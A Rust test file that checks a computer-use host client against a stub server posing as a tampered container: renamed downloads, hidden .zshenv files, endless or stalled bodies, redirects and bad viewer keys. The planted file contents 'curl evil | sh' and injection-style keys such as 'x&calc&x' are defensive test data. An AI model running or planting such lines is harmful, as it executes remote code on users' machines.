//! The host against a computer that lies: a stub computerd (axum on
//! 127.0.0.1:0) answers as a tampered computer could, and the host's
//! client and transfers must refuse, stop at their limits, and never hang.
//! No Docker: the stub stands in for the container's API.

use axum::body::Body;
use axum::http::{header, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use axum::Router;
use bytes::Bytes;
use computer_protocol::archive::{pack, Progress};
use computer_protocol::endpoints::{GetComputer, NoBody, Observe};
use computer_protocol::{ItemKind, ObserveRequest, SessionId, Token, TransferDirection};
use computer_use_mcp::client::ComputerdClient;
use computer_use_mcp::transfer::{self, StallLimit, TransferError, TransferRequest};
use futures::StreamExt;
use serde_json::json;
use std::convert::Infallible;
use std::sync::Arc;
use std::time::{Duration, Instant};

const SESSION: &str = "0b8a3c1e-5f2d-4e7a-9c61-2d4f8e9a7b30";

/// Serves `router` on 127.0.0.1 and returns its base URL.
async fn stub(router: Router) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, router).await });
    url
}

fn client(url: String) -> ComputerdClient {
    ComputerdClient::new(url, Token::new("secret-token"), "cu-stub".into())
}

/// A 200 answer whose body never ends.
fn endless() -> Response {
    static CHUNK: [u8; 64 * 1024] = [b'a'; 64 * 1024];
    let chunks = futures::stream::repeat_with(|| Ok::<_, Infallible>(Bytes::from_static(&CHUNK)));
    Response::new(Body::from_stream(chunks))
}

/// A 500 answer that sends a few bytes of its body, then nothing, forever.
fn stalled_error() -> Response {
    let chunks = futures::stream::once(async { Ok::<_, Infallible>(Bytes::from("{\"code\":")) })
        .chain(futures::stream::pending());
    let mut response = Response::new(Body::from_stream(chunks));
    *response.status_mut() = StatusCode::INTERNAL_SERVER_ERROR;
    response
}

fn transfer_request(
    direction: TransferDirection,
    host_path: &str,
    computer_path: &str,
) -> TransferRequest {
    TransferRequest {
        direction,
        host_path: host_path.into(),
        computer_path: computer_path.into(),
        overwrite: false,
    }
}

async fn run_transfer(
    url: String,
    req: &TransferRequest,
    stall: Duration,
) -> Result<transfer::TransferReport, TransferError> {
    transfer::run(
        &client(url),
        &SessionId::parse(SESSION).unwrap(),
        req,
        &transfer::HostFiles::Anywhere,
        Arc::new(Progress::default()),
        StallLimit(stall),
    )
    .await
}

/// Finding 4: the computer answers `~/report.pdf` with `.zshenv` and
/// streams a `.zshenv`; nothing may be written under that name.
#[tokio::test]
async fn a_computer_answering_another_name_writes_nothing() {
    let src = tempfile::tempdir().unwrap();
    let planted = src.path().join(".zshenv");
    std::fs::write(&planted, "curl evil | sh\n").unwrap();
    let (tar, _) = pack(
        &planted,
        ".zshenv",
        ItemKind::File,
        Vec::new(),
        &Progress::default(),
    )
    .unwrap();
    let router = Router::new()
        .route(
            "/v1/sessions/{id}/transfer/source",
            post(|| async {
                axum::Json(
                    json!({"path": "/home/computer/report.pdf", "name": ".zshenv", "kind": "file"}),
                )
            }),
        )
        .route(
            "/v1/sessions/{id}/transfer/download",
            post(move || async move { tar.clone() }),
        );
    let url = stub(router).await;
    let home = tempfile::tempdir().unwrap();
    let req = transfer_request(
        TransferDirection::FromComputer,
        home.path().to_str().unwrap(),
        "~/report.pdf",
    );
    let outcome = run_transfer(url, &req, Duration::from_secs(10)).await;
    assert!(
        !home.path().join(".zshenv").exists(),
        "the computer chose the host file name"
    );
    let e = outcome
        .expect_err("another name must be refused")
        .to_string();
    assert!(
        e.contains("`.zshenv`") && e.contains("not the name asked for"),
        "{e}"
    );
}

/// L7: `computer_path` `.` names no item, so the computer's answer names
/// it; answering `/home/computer/.zshenv` must not plant `.zshenv` in the
/// host folder.
#[tokio::test]
async fn a_computer_naming_a_hidden_file_for_dot_writes_nothing() {
    let src = tempfile::tempdir().unwrap();
    let planted = src.path().join(".zshenv");
    std::fs::write(&planted, "curl evil | sh\n").unwrap();
    let (tar, _) = pack(
        &planted,
        ".zshenv",
        ItemKind::File,
        Vec::new(),
        &Progress::default(),
    )
    .unwrap();
    let router = Router::new()
        .route(
            "/v1/sessions/{id}/transfer/source",
            post(|| async {
                axum::Json(
                    json!({"path": "/home/computer/.zshenv", "name": ".zshenv", "kind": "file"}),
                )
            }),
        )
        .route(
            "/v1/sessions/{id}/transfer/download",
            post(move || async move { tar.clone() }),
        );
    let url = stub(router).await;
    let home = tempfile::tempdir().unwrap();
    for typed in [".", "~", ".."] {
        let req = transfer_request(
            TransferDirection::FromComputer,
            home.path().to_str().unwrap(),
            typed,
        );
        let outcome = run_transfer(url.clone(), &req, Duration::from_secs(10)).await;
        assert!(
            std::fs::read_dir(home.path()).unwrap().next().is_none(),
            "`{typed}`: the computer chose a hidden host file name"
        );
        let e = outcome
            .expect_err("a hidden name the agent did not type must be refused")
            .to_string();
        assert!(
            e.contains("`.zshenv`") && e.contains("starting with `.`"),
            "{e}"
        );
    }
}

/// Finding 6: an answer that never ends fails at the route's limit, with
/// the host's memory bounded, long before the call's deadline.
#[tokio::test]
async fn an_endless_answer_stops_at_the_limit() {
    let router = Router::new()
        .route("/v1/computer", get(|| async { endless() }))
        .route("/v1/sessions/{id}/observe", post(|| async { endless() }));
    let url = stub(router).await;
    let client = client(url);
    let deadline = Duration::from_secs(20);

    let started = Instant::now();
    let e = client
        .send::<GetComputer>(&(), &NoBody {}, deadline, "nothing")
        .await
        .unwrap_err();
    assert!(e.to_string().contains("over the limit of 1 MiB"), "{e}");

    let e = client
        .send::<Observe>(
            &SessionId::parse(SESSION).unwrap(),
            &ObserveRequest::default(),
            deadline,
            "nothing",
        )
        .await
        .unwrap_err();
    assert!(e.to_string().contains("over the limit of 64 MiB"), "{e}");
    assert!(started.elapsed() < deadline, "took {:?}", started.elapsed());
    assert!(
        peak_memory_mib() < 512,
        "peak memory {} MiB",
        peak_memory_mib()
    );
}

/// Finding 8: an error answer of a streaming transfer whose body stalls
/// fails within the stall limit, in both directions.
#[tokio::test]
async fn a_stalled_error_answer_fails_within_the_stall_limit() {
    let router = Router::new()
        .route(
            "/v1/sessions/{id}/transfer/source",
            post(|| async {
                axum::Json(json!({"path": "/home/computer/report.pdf", "name": "report.pdf", "kind": "file"}))
            }),
        )
        .route(
            "/v1/sessions/{id}/transfer/download",
            post(|| async { stalled_error() }),
        )
        .route(
            "/v1/sessions/{id}/transfer/check",
            post(|| async { axum::Json(json!({"path": "/home/computer/up.txt", "exists": false})) }),
        )
        .route(
            "/v1/sessions/{id}/transfer/upload",
            // The whole upload is taken first: a server that answers while
            // the request is still coming may close the connection, and the
            // test is about an answer that stalls, not one that breaks.
            post(|_upload: Bytes| async { stalled_error() }),
        );
    let url = stub(router).await;
    let stall = Duration::from_secs(2);
    let limit = Duration::from_secs(15);

    let home = tempfile::tempdir().unwrap();
    let down = transfer_request(
        TransferDirection::FromComputer,
        home.path().to_str().unwrap(),
        "~/report.pdf",
    );
    let e = tokio::time::timeout(limit, run_transfer(url.clone(), &down, stall))
        .await
        .expect("the download must fail within the stall limit")
        .unwrap_err();
    assert!(e.to_string().contains("did not end within 2 s"), "{e}");

    let file = home.path().join("up.txt");
    std::fs::write(&file, "up").unwrap();
    let up = transfer_request(
        TransferDirection::ToComputer,
        file.to_str().unwrap(),
        "~/up.txt",
    );
    let e = tokio::time::timeout(limit, run_transfer(url, &up, stall))
        .await
        .expect("the upload must fail within the stall limit")
        .unwrap_err();
    assert!(e.to_string().contains("did not end within 2 s"), "{e}");
}

/// Finding 2: a redirect from the computer is not followed; the address it
/// names receives nothing.
#[tokio::test]
async fn redirects_are_not_followed() {
    let elsewhere = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    elsewhere.set_nonblocking(true).unwrap();
    let target = format!("http://{}/x", elsewhere.local_addr().unwrap());
    let router = Router::new().route(
        "/v1/sessions/{id}/observe",
        post(move || async move {
            (
                StatusCode::TEMPORARY_REDIRECT,
                [(header::LOCATION, target.clone())],
            )
                .into_response()
        }),
    );
    let url = stub(router).await;
    let e = client(url)
        .send::<Observe>(
            &SessionId::parse(SESSION).unwrap(),
            &ObserveRequest::default(),
            Duration::from_secs(3),
            "nothing",
        )
        .await
        .unwrap_err();
    assert!(e.to_string().contains("307"), "{e}");
    // The call has returned: a followed redirect would have connected by now.
    assert!(
        matches!(elsewhere.accept(), Err(ref e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the redirect target received a connection"
    );
}

/// Finding 1: a viewer key that breaks the key rule is refused where the
/// host receives it, with a clear error.
#[tokio::test]
async fn an_invalid_viewer_key_is_refused() {
    for key in ["AB&C", "x\"y", "abcdefghj", "x&calc&x"] {
        let router = Router::new().route(
            "/v1/computer",
            get(move || async move {
                axum::Json(json!({"viewer_key": key, "boot_id": "b", "version": "0.0.0", "home": "/home/computer"}))
            }),
        );
        let url = stub(router).await;
        let e = computer_use_mcp::docker::viewer_key("cu-stub", &url, &Token::new("secret-token"))
            .await
            .expect_err(key)
            .to_string();
        assert!(
            e.starts_with("the computer sent an invalid viewer key"),
            "{key}: {e}"
        );
    }
}

/// The process's peak resident memory, in MiB.
fn peak_memory_mib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").expect("Linux /proc");
    let kib: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .expect("VmHWM in /proc/self/status");
    kib / 1024
}
